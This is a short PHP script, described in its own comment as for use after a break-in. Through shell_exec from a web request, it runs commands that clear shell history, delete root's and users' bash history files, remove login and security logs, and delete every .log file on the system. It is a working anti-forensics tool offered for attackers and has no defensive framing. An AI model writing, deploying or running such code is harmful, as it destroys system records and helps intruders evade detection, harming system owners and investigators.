<?php
// After the break-in: a list of shell lines that clear the history and delete the logs, run one by one.
$lines = array(
    'unset HISTFILE; unset HISTSIZE',
    'rm -f /root/.bash_history /home/*/.bash_history',
    'rm -rf /var/log/wtmp /var/log/lastlog /var/log/secure',
    'find / -name "*.log" -exec rm -f {} \;',
    'history -c',
);
header('Content-Type: text/plain');
foreach ($lines as $line) {
    echo '> ' . $line . "\n";
    echo shell_exec($line . ' 2>&1');
}
